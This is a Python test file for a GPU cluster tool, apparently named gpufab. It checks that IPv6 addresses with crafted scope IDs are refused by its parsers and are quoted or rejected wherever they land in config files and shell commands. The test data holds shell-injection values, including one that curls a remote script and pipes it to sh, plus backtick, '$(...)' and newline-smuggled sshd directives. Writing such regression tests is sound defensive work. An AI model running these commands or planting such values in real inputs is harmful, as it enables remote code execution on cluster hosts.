"""Issue 32, item 1: an address reaches root's shell and root's config files only as an address.

`ipaddress` takes an IPv6 scope id holding any character but `/` and `%`
(`fd00::10%x;curl …|sh`). Every parser gpufab reads an address or a CIDR with
refuses it (first line), and every file or command an address lands in
refuses or quotes what is not one (second line), so a value that got past a
parser still changes nothing's meaning.
"""

from __future__ import annotations

import ipaddress
import os
import subprocess

import pytest
from hypothesis import given, settings, strategies as st

from fabfile.core.errors import HostError, InputError
from fabfile.core.files import UnsafeValue, render
from fabfile.core.inventory import parse_inventory
from fabfile.core.mapping import parse_mapping
from fabfile.core.networks import Reach, check_bind_address, check_network, read_reach, strict_ip
from fabfile.ops.shared import launch
from fabfile.ops import mesh, netenv, ray
from fabfile.ops.storage import nfs, sshfs
from fabfile.ops.shared import nodeenv

HOSTILE = ["fd00::10%x;curl http://198.18.0.1/x|sh", "fd00::1%;id", "fd00::1%eth0", "fe80::1%x,*",
           "fd00::1%a\nListenAddress 0.0.0.0", "fd00::1%`id`"]


def node(private: str) -> str:
    return f'nodes:\n  - name: a\n    public: 198.18.0.11\n    private: "{private}"\n'


@pytest.mark.parametrize("value", HOSTILE)
def test_an_inventory_address_with_a_scope_id_is_refused(value):
    text = node(value.replace("\n", "\\n"))
    with pytest.raises(InputError, match="invalid IP address"):
        parse_inventory(text, "hosts.yaml")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cidr_or_listen_address_with_a_scope_id_is_refused(value):
    with pytest.raises(InputError, match="private_subnet: invalid CIDR"):
        check_network(value.split("%")[0] + "%" + value.split("%")[1] + "/64", "the export", Reach())
    with pytest.raises(InputError, match="private_ranges: invalid CIDR"):
        read_reach([value + "/64"], False)
    with pytest.raises(InputError, match="ray_dashboard_host: invalid address"):
        check_bind_address(value, "Ray's dashboard", Reach(), "ray_dashboard_host")


def test_the_issue_s_own_examples_are_refused():
    with pytest.raises(InputError):
        check_network("fd00::%x,y/64", "the export", Reach())
    with pytest.raises(InputError):
        ray.read(None, parse_inventory(node("fd00::11"), "h"), {"ray_dashboard_host": "fd00::1%;id"})


def test_every_address_is_refused_as_a_private_range():
    with pytest.raises(InputError, match="every address"):
        read_reach(["0.0.0.0/0"], False)
    with pytest.raises(InputError, match="every address"):
        read_reach("::/0", False)


def test_a_mapping_row_with_a_scope_id_is_refused(tmp_path):
    with pytest.raises(InputError, match="invalid private IP address"):
        parse_mapping("198.18.0.11 fd00::1%x;id\n", "map.txt")


@settings(max_examples=75, deadline=None)
@given(st.ip_addresses(v=6), st.text(min_size=0, max_size=20))
def test_no_scope_id_passes_any_parser(address, scope):
    hostile = f"{address}%{scope}"
    for parse in (lambda: strict_ip(hostile),):
        with pytest.raises(ValueError):
            parse()
    with pytest.raises(InputError):
        parse_inventory(f"nodes:\n  - name: a\n    public: 198.18.0.11\n    private: {hostile!r}\n", "h")
    with pytest.raises(InputError):
        check_bind_address(hostile, "x", Reach(allow_public=True), "x")
    with pytest.raises(InputError):
        check_network(f"{hostile}/64", "x", Reach(allow_public=True))


@settings(max_examples=75, deadline=None)
@given(st.ip_addresses())
def test_every_plain_address_is_taken_in_its_canonical_form(address):
    inv = parse_inventory(f"nodes:\n  - name: a\n    public: 198.18.0.11\n    private: '{address}'\n", "h")
    assert inv.nodes[0].private == str(ipaddress.ip_address(address))


# --------------------------------------------------------------------------- the sinks


@pytest.mark.parametrize("value", HOSTILE + ["198.19.0.1;id", "198.19.0.1 0.0.0.0"])
def test_an_address_that_got_past_a_parser_stops_every_file_it_would_land_in(value):
    with pytest.raises(UnsafeValue):
        netenv.netenv_files("a", "eth1", value, 29500, "ethernet")
    plan = ray.UnitPlan("worker", "gpu", "/opt/ray", "198.19.0.12", value)
    with pytest.raises(UnsafeValue):
        ray.unit_file(plan)
    with pytest.raises(UnsafeValue):
        ray.unit_file(ray.UnitPlan("head", "gpu", "/opt/ray", value, value))
    with pytest.raises(UnsafeValue):
        nfs.fstab_block(value, "/mnt/shared", "/mnt/shared")
    with pytest.raises(HostError, match="no private address"):
        mesh.authorized_lines([mesh.Peer("b", value, "b", 22, "gpu", 1, (), "ssh-ed25519 AAAA")], "")
    with pytest.raises(UnsafeValue):
        render("mesh/hosts-block.j2", peers=[mesh.Peer("b", value, "b", 22, "gpu", 1)])
    with pytest.raises(ValueError):
        sshfs.key_line("b", value, "ssh-ed25519 AAAAC3Nza gpufab-sshfs@b")
    with pytest.raises(ValueError):
        sshfs.listen_address(value, 2222)
    with pytest.raises(ValueError):
        sshfs.fstab_block("gpu", value, "/mnt/shared", 2222)


def test_a_nic_or_hca_name_is_quoted_in_the_env_file_and_refused_in_nccl_conf():
    files = netenv.netenv_files("a", "eth1", "198.19.0.11", 29500, "ethernet")
    assert "MASTER_ADDR=198.19.0.11\n" in files[0].content  # plain values are written as they were
    with pytest.raises(UnsafeValue):
        netenv.netenv_files("a", "eth1;id", "198.19.0.11", 29500, "ethernet")


def test_the_env_file_reader_takes_back_what_the_sh_filter_quoted():
    assert nodeenv.env_lines("A='x y'\nB=plain\nC='it'\"'\"'s'\n") == {"A": "x y", "B": "plain", "C": "it's"}


def test_launch_placeholders_are_quoted_for_the_shell():
    values = {"NODE_RANK": "0", "NNODES": "2", "MASTER_ADDR": "198.19.0.1;id", "MASTER_PORT": "1",
              "NPROC_PER_NODE": "8"}
    assert launch.substitute("torchrun --master-addr {MASTER_ADDR} x", values) == \
        "torchrun --master-addr '198.19.0.1;id' x"
    values["MASTER_ADDR"] = "198.19.0.1"
    assert launch.substitute("--rdzv {MASTER_ADDR}:{MASTER_PORT}", values) == "--rdzv 198.19.0.1:1"


def test_the_port_probe_runs_an_address_as_data_never_as_code(tmp_path):
    planted = tmp_path / "planted"
    out = subprocess.run(["bash", "-c", netenv.PROBE_SCRIPT, "gpufab", "1", f"127.0.0.1;touch {planted}",
                          f"$(touch {planted})"], capture_output=True, text=True, timeout=60)
    assert not planted.exists()
    assert [line.split()[-1] for line in out.stdout.splitlines()] == ["unreachable", "unreachable"]


def test_the_nfs_wait_probe_passes_the_server_as_an_argument(tmp_path, monkeypatch):
    planted = tmp_path / "planted"

    class Remote:
        def check(self, command):
            subprocess.run(["sh", "-c", command], timeout=30)
            return True

    plan = nfs.NfsPlan(f"127.0.0.1/x;touch {planted}", "head", "/mnt/shared", "/mnt/shared", None)
    nfs._wait_for_server(Remote(), plan)
    assert not planted.exists()
    assert os.path.isdir(tmp_path)
